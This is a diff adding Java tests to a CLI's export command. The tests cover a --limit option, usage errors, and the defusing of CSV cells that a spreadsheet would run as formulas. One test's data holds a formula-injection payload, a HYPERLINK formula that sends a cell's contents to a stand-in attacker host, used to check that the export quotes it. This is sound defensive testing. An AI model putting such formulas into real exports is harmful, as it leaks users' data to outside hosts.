@@ -66,6 +66,11 @@ class ExportCliTest {
             assertThat(text).doesNotContain(raw);
         }
 
+        // two device ids shared for certain (the sample may have none), so that --limit 1 has something to cut
+        Db.execute(url, "INSERT INTO user_logins (user_id, device_type, masked_ip, masked_device_id, locale, "
+                + "app_version, create_date) SELECT u, 'ios', 'v1:ip-' || u, d, 'PH', '2.3.0', DATE '2026-11-01' "
+                + "FROM (VALUES ('x1', 'v1:dev-x'), ('x2', 'v1:dev-x'), ('x3', 'v1:dev-x'), ('x1', 'v1:dev-y'), "
+                + "('x2', 'v1:dev-y')) v(u, d)");
         CliTest.Run shared = CliTest.run(with("export", common, "--shared", "devices"));
         assertThat(shared.code()).as(shared.err()).isZero();
         List<CSVRecord> masks = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
@@ -73,6 +78,39 @@ class ExportCliTest {
         assertThat(masks.stream().map(m -> m.get("mask")).toList()).containsExactlyInAnyOrderElementsOf(sql(url,
                 "SELECT masked_device_id FROM user_logins GROUP BY 1 HAVING count(DISTINCT user_id) >= 2").stream()
                 .map(l -> l.get(0)).toList());
+
+        CliTest.Run one = CliTest.run(with("export", common, "--shared", "devices", "--limit", "1"));
+        assertThat(one.code()).as(one.err()).isZero();
+        assertThat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(one.out())).getRecords()).extracting(m -> m.get("mask"))
+                .containsExactly(masks.get(0).get("mask")).hasSizeLessThan(masks.size());
+    }
+
+    /** Flags that point at servers nobody listens on: a usage error must be reported before they are tried. */
+    private static List<String> nowhere(Path tmp) {
+        return List.of("--sqs-endpoint=http://127.0.0.1:1", "--jdbc-url=jdbc:postgresql://127.0.0.1:1/none",
+                "--data-dir=" + tmp);
+    }
+
+    @Test
+    void aLimitBelowOneIsAUsageErrorAtParsingWithExitCode2(@TempDir Path tmp) {
+        for (String bad : new String[] {"-5", "0"}) {
+            CliTest.Run r = CliTest.run(with("export", nowhere(tmp), "--shared", "devices", "--limit", bad));
+            assertThat(r.code()).as(r.err()).isEqualTo(2);
+            assertThat(r.err()).contains("--limit is the most shared masks to write: give a whole number of 1 or more "
+                    + "(e.g. --limit 1000), not " + bad).contains("Usage: drainboard export")
+                    .doesNotContain("reachable").doesNotContain("Could not");
+        }
+    }
+
+    @Test
+    void aFilterTogetherWithSharedIsRefusedInsteadOfIgnored(@TempDir Path tmp) {
+        CliTest.Run r = CliTest.run(with("export", nowhere(tmp), "--shared", "ips", "--filter", "device_type=ios"));
+        assertThat(r.code()).as(r.err()).isEqualTo(2);
+        assertThat(r.err()).contains("--filter cannot be combined with --shared: the shared lists count the user ids "
+                + "of the whole table. Give --shared without --filter, or --filter without --shared for the matching "
+                + "rows.").doesNotContain("reachable");
+        assertThat(r.out()).isEmpty();
     }
 
     @Test
@@ -82,6 +120,40 @@ class ExportCliTest {
                 "--jdbc-url=" + c.jdbcUrl().orElseThrow(), "--data-dir=" + c.dataDir(), "--filter", "colour=red");
         assertThat(r.code()).isEqualTo(2);
         assertThat(r.err()).contains("'colour=red' is not a filter term");
+    }
+
+    @Test
+    void cellsThatASpreadsheetWouldRunAsAFormulaAreWrittenDefused(@TempDir Path tmp) throws Exception {
+        AppConfig c = TestServers.config();
+        String url = c.jdbcUrl().orElseThrow();
+        List<String> common = List.of("--sqs-endpoint=" + c.sqsEndpoint().orElseThrow(), "--queue=" + c.queue(),
+                "--jdbc-url=" + url, "--data-dir=" + c.dataDir(), "--wait-seconds=0");
+        assertThat(CliTest.run(with("schema", common)).code()).isZero();
+        String link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
+        Db.execute(url, "INSERT INTO user_logins (user_id, device_type, masked_ip, masked_device_id, locale, "
+                + "app_version, create_date) VALUES "
+                + "('" + link.replace("'", "''") + "', 'ios', 'v1:ip-1', 'v1:dev-1', 'PH', '2.3.0', DATE '2026-11-05'), "
+                + "('u2', '@SUM(1+1)', 'v1:ip-2', 'v2:dev-2', '+1', '-2.3', DATE '2026-11-04'), "
+                + "(E'\\tu3', 'android', 'v1:ip-3', 'v1:dev-3', E'\\rPH', '2.3.0', DATE '2026-11-03'), "
+                + "('u4-=x', 'web', 'v1:ip-4', 'v1:dev-4', 'en-US', '1.0.0', DATE '2026-11-02')");
+
+        Path file = tmp.resolve("all.csv");
+        CliTest.Run r = CliTest.run(with("export", common, "--output", file.toString()));
+        assertThat(r.code()).as(r.err()).isZero();
+
+        List<List<String>> got = new ArrayList<>();
+        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
+            for (CSVRecord rec : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(in)) {
+                List<String> row = new ArrayList<>();
+                CsvExport.ROW_HEADER.forEach(h -> row.add(rec.get(h)));
+                got.add(row);
+            }
+        }
+        assertThat(got).containsExactly(
+                List.of("'" + link, "ios", "v1:ip-1", "v1:dev-1", "PH", "2.3.0", "2026-11-05"),
+                List.of("u2", "'@SUM(1+1)", "v1:ip-2", "v2:dev-2", "'+1", "'-2.3", "2026-11-04"),
+                List.of("'\tu3", "android", "v1:ip-3", "v1:dev-3", "'\rPH", "2.3.0", "2026-11-03"),
+                List.of("u4-=x", "web", "v1:ip-4", "v1:dev-4", "en-US", "1.0.0", "2026-11-02"));
     }
 
     private static String[] with(String command, List<String> common, String... more) {
